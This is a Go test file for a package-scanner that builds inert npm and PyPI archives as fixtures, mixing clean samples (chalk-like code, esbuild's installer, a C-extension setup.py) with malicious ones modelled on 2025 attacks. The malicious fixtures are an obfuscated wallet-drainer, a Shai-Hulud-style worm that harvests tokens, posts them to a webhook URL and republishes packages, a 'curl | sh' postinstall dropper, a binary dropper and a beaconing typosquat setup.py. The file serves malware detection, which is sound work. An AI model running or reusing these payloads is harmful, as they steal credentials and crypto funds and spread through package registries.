package inspect

// Test fixtures: small, inert package archives built in memory, modelled on
// public write-ups of real npm attacks (no real samples exist in the
// corpus). Nothing here is ever run; the payloads are plausible text for
// the scanner, with documentation-range IP addresses and example hosts.

import (
	"strings"
	"testing"

	"customs/internal/archivetest"
)

// file is a regular file of a test archive, short to write in tables.
type file struct{ name, body string }

// writeTarGz writes files into a gzip tarball in dir and returns its path.
func writeTarGz(t testing.TB, dir, name string, files []file) string {
	t.Helper()
	return archivetest.WriteTarGz(t, dir, name, archiveFiles(files)...)
}

// writeZip writes files into a zip (a wheel) in dir and returns its path.
func writeZip(t testing.TB, dir, name string, files []file) string {
	t.Helper()
	return archivetest.WriteZip(t, dir, name, archiveFiles(files)...)
}

func archiveFiles(files []file) []archivetest.File {
	out := make([]archivetest.File, len(files))
	for i, f := range files {
		out[i] = archivetest.File{Name: f.name, Body: f.body}
	}
	return out
}

func npmPackage(name, version, extraJSON string, files ...file) []file {
	pj := `{"name": "` + name + `", "version": "` + version + `", "license": "MIT"` + extraJSON + "}\n"
	out := []file{{"package/package.json", pj}}
	for _, f := range files {
		out = append(out, file{"package/" + f.name, f.body})
	}
	return out
}

// chalkSource is plain chalk-like code: what the clean releases hold.
const chalkSource = `import ansiStyles from './vendor/ansi-styles/index.js';
import supportsColor from './vendor/supports-color/index.js';

const {stdout: stdoutColor, stderr: stderrColor} = supportsColor;
const levelMapping = ['ansi', 'ansi', 'ansi256', 'ansi16m'];
const styles = Object.create(null);

const applyOptions = (object, options = {}) => {
	if (options.level && !(Number.isInteger(options.level) && options.level >= 0 && options.level <= 3)) {
		throw new Error('The ` + "`level`" + ` option should be an integer from 0 to 3');
	}
	const colorLevel = stdoutColor ? stdoutColor.level : 0;
	object.level = options.level === undefined ? colorLevel : options.level;
};

export class Chalk {
	constructor(options) {
		return chalkFactory(options);
	}
}

const chalkFactory = options => {
	const chalk = (...strings) => strings.join(' ');
	applyOptions(chalk, options);
	Object.setPrototypeOf(chalk, createChalk.prototype);
	return chalk;
};

function createChalk(options) {
	return chalkFactory(options);
}

for (const [styleName, style] of Object.entries(ansiStyles)) {
	styles[styleName] = {
		get() {
			const builder = createBuilder(this, createStyler(style.open, style.close, this._styler), this._isEmpty);
			Object.defineProperty(this, styleName, {value: builder});
			return builder;
		},
	};
}

const chalk = createChalk();
export const chalkStderr = createChalk({level: stderrColor ? stderrColor.level : 0});
export {levelMapping};
export default chalk;
`

// walletDrainer models the code injected into chalk, debug and 16 other
// packages on 8 September 2025: an obfuscated browser payload that hooks
// window.ethereum and the fetch/XMLHttpRequest APIs, and rewrites wallet
// addresses in requests and transactions to the look-alike attacker
// address chosen by Levenshtein distance.
func walletDrainer() string {
	var b strings.Builder
	b.WriteString(`const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f,_0x66ea25=_0x13c8b9();while(!![]){try{const _0x2cc99e=parseInt(_0x15b386(0x46c))/0x1;if(_0x2cc99e===_0x35f660)break;else _0x66ea25['push'](_0x66ea25['shift']());}catch(_0x4c5a2c){_0x66ea25['push'](_0x66ea25['shift']());}}}(_0x3e1a,0x3a8f1));`)
	b.WriteString(`var _0x4d2a11=['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976','0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024','0x40C351B989113646bc4e9Dfe66AE66D24fE6Da7B','0x30F895a2C66030795131FB66CBaD6a1f91461731','0x57394449fE8Ee266Ead880D5588E43501cb84cC7','0xCd422cCC9f6e8f30FfD6F68C0710D3a7F24a026A'];`)
	b.WriteString(`var _0x51bc20=['1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx','1Li1CRPwjovnGHGPTtcKzy75j37K6n97Rd','bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm','bc1qznntn2q7df8ltvx842upkd9uj4atwxpk0whxh9'];`)
	b.WriteString(`function _0x2b7f4e(_0x1c2d3e,_0x4f5a6b){const _0x3a4b5c=[];for(let _0x5c6d7e=0x0;_0x5c6d7e<=_0x4f5a6b['length'];_0x5c6d7e++){_0x3a4b5c[_0x5c6d7e]=[_0x5c6d7e];}return _0x3a4b5c;}/* levenshtein */`)
	b.WriteString(`function _0x1f3e2d(_0x4a1b2c,_0x5d6e7f){return _0x5d6e7f.reduce((_0x9a8b7c,_0x6c5d4e)=>_0x2b7f4e(_0x4a1b2c,_0x6c5d4e)<_0x2b7f4e(_0x4a1b2c,_0x9a8b7c)?_0x6c5d4e:_0x9a8b7c);}`)
	b.WriteString(`if(typeof window!='undefined'){const _0x3f2a1b=window.fetch;window.fetch=async function(..._0x2c1d3e){const _0x4e5f6a=await _0x3f2a1b(..._0x2c1d3e);const _0x7b8c9d=await _0x4e5f6a.clone().text();return new Response(_0x7b8c9d.replace(/0x[a-fA-F0-9]{40}/g,_0x5e6f=>_0x1f3e2d(_0x5e6f,_0x4d2a11)),_0x4e5f6a);};`)
	b.WriteString(`const _0x6a7b8c=XMLHttpRequest.prototype.open;XMLHttpRequest.prototype.open=function(_0x1a2b3c,_0x4d5e6f){this._0x7a8b9c=_0x4d5e6f;return _0x6a7b8c.apply(this,arguments);};`)
	b.WriteString(`if(window.ethereum){const _0x9c8d7e=window.ethereum.request;window.ethereum.request=async function(_0x2e3f4a){if(_0x2e3f4a.method==='eth_sendTransaction'){_0x2e3f4a.params[0x0].to=_0x1f3e2d(_0x2e3f4a.params[0x0].to,_0x4d2a11);}return _0x9c8d7e.call(this,_0x2e3f4a);};}}`)
	b.WriteString(`function _0x180f(_0x2a3b4c,_0x5d6e7f){const _0x3e1a00=_0x3e1a();return _0x3e1a00[_0x2a3b4c-0x46c];}function _0x3e1a(){return['4193VyBrZs','ethereum','request'];}` + "\n")
	return b.String()
}

// shaiHuludBundle models the worm of September 2025: a postinstall
// bundle that harvests tokens (and runs trufflehog), then republishes
// every package the stolen npm token can publish with itself injected as a
// postinstall, and plants a GitHub Actions workflow that exfiltrates
// secrets.
const shaiHuludBundle = `const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const npmToken = process.env.NPM_TOKEN || readNpmrcToken(path.join(os.homedir(), '.npmrc'));
const ghToken = process.env.GITHUB_TOKEN;

async function whoami(registry) {
  const res = await fetch(registry + '/-/whoami', { headers: { authorization: 'Bearer ' + npmToken } });
  return (await res.json()).username;
}

async function harvest() {
  const out = execSync('trufflehog filesystem ' + os.homedir() + ' --json --no-update', { encoding: 'utf8' });
  const dump = { env: JSON.stringify(process.env), secrets: out };
  await fetch('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST', body: Buffer.from(JSON.stringify(dump)).toString('base64') });
}

async function propagate(registry, user) {
  const res = await fetch(registry + '/-/v1/search?text=maintainer:' + user + '&size=20');
  for (const { package: p } of (await res.json()).objects) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p'));
    execSync('npm pack ' + p.name + ' && tar xzf *.tgz', { cwd: dir });
    const pkgPath = path.join(dir, 'package', 'package.json');
    const pkg = JSON.parse(fs.readFileSync(pkgPath, 'utf8'));
    pkg.scripts = pkg.scripts || {};
    pkg.scripts.postinstall = 'node bundle.js';
    pkg.version = bump(pkg.version);
    fs.writeFileSync(pkgPath, JSON.stringify(pkg));
    fs.copyFileSync(__filename, path.join(dir, 'package', 'bundle.js'));
    execSync('npm publish --access public', { cwd: path.join(dir, 'package') });
  }
}

function plantWorkflow() {
  fs.mkdirSync('.github/workflows', { recursive: true });
  fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "$(echo ${{ toJSON(secrets) }} | base64 -w0)" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7\n');
  execSync('git add .github && git commit -m ci && git push', { env: { ...process.env, GITHUB_TOKEN: ghToken } });
}

(async () => { await harvest(); plantWorkflow(); await propagate('https://npm-registry.example', await whoami('https://npm-registry.example')); })().catch(() => {});
`

// shellDropperJSON is an install script that fetches a script from an IP
// address and pipes it into a shell.
const shellDropperJSON = `, "scripts": {"postinstall": "curl -s http://203.0.113.7/s.sh | sh"}`

// nodeDropper is the other common install-time dropper: fetch a binary
// from a bare IP into the temp dir, make it executable and start it
// detached so it outlives npm.
const nodeDropper = `const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const dest = path.join(os.tmpdir(), '.kworker');
http.get('http://198.51.100.23:8080/update', (res) => {
  const out = fs.createWriteStream(dest);
  res.pipe(out);
  out.on('finish', () => {
    fs.chmodSync(dest, 0o755);
    spawn(dest, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
`

// esbuildInstall models esbuild's real install.js: it downloads the
// platform's binary package from the npm registry when the optional
// dependency is missing, writes it, makes it executable and checks its
// version. It is benign and must not be called malicious.
const esbuildInstall = `"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const zlib = require("zlib");
const https = require("https");
const child_process = require("child_process");

const versionFromPackageJSON = require(path.join(__dirname, "package.json")).version;
const toPath = path.join(__dirname, "bin", "esbuild");

function validateBinaryVersion(...command) {
  command.push("--version");
  const stdout = child_process.execFileSync(command.shift(), command, { stdio: "pipe" }).toString().trim();
  if (stdout !== versionFromPackageJSON) {
    throw new Error("Expected " + JSON.stringify(versionFromPackageJSON) + " but got " + JSON.stringify(stdout));
  }
}

function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location)
        return fetch(res.headers.location).then(resolve, reject);
      if (res.statusCode !== 200) return reject(new Error("Server responded with " + res.statusCode));
      let chunks = [];
      res.on("data", (chunk) => chunks.push(chunk));
      res.on("end", () => resolve(Buffer.concat(chunks)));
    }).on("error", reject);
  });
}

function installUsingNPM(pkg, subpath, binPath) {
  const env = { ...process.env, npm_config_global: undefined };
  const installDir = path.join(os.tmpdir(), "esbuild-" + Math.random().toString(36).slice(2));
  fs.mkdirSync(installDir);
  fs.writeFileSync(path.join(installDir, "package.json"), "{}");
  child_process.execSync("npm install --loglevel=error --prefer-offline --no-audit --progress=false " + pkg + "@" + versionFromPackageJSON, { cwd: installDir, stdio: "pipe", env });
  fs.renameSync(path.join(installDir, "node_modules", pkg, subpath), binPath);
}

async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
  const url = "https://npm-registry.example/" + pkg + "/-/" + pkg.replace("@esbuild/", "") + "-" + versionFromPackageJSON + ".tgz";
  const buffer = await fetch(url);
  fs.writeFileSync(binPath, extractFileFromTarGzip(buffer, subpath));
  fs.chmodSync(binPath, 493);
}

function extractFileFromTarGzip(buffer, subpath) {
  buffer = zlib.unzipSync(buffer);
  return buffer;
}

async function checkAndPreparePackage() {
  const pkg = "@esbuild/" + os.platform() + "-" + os.arch();
  try {
    require.resolve(pkg);
  } catch {
    try {
      installUsingNPM(pkg, "bin/esbuild", toPath);
    } catch (e) {
      await downloadDirectlyFromNPM(pkg, "bin/esbuild", toPath);
    }
  }
}

checkAndPreparePackage().then(() => validateBinaryVersion(toPath));
`

// Python fixtures.

// setupBeacon is the commonest PyPI pattern: a setup.py whose overridden
// install command sends the host and user name to a collector.
const setupBeacon = `from setuptools import setup
from setuptools.command.install import install
import getpass, socket, urllib.request, json

class PostInstall(install):
    def run(self):
        install.run(self)
        info = {"h": socket.gethostname(), "u": getpass.getuser()}
        urllib.request.urlopen("https://collect.example.net/i", data=json.dumps(info).encode())

setup(name="reqeusts-toolkit", version="1.0.0", packages=["reqeusts_toolkit"], cmdclass={"install": PostInstall})
`

// setupBuildExt is an ordinary setup.py building a C extension.
const setupBuildExt = `import os
import subprocess
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext

class BuildExt(build_ext):
    def build_extensions(self):
        if self.compiler.compiler_type == "unix":
            for ext in self.extensions:
                ext.extra_compile_args = ["-O2"]
        build_ext.build_extensions(self)

def git_version():
    try:
        return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
    except Exception:
        return "0.0.0"

setup(
    name="fastthing",
    version="2.1.0",
    ext_modules=[Extension("fastthing._speedups", ["src/speedups.c"])],
    cmdclass={"build_ext": BuildExt},
)
`

const pkgInfo = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n"
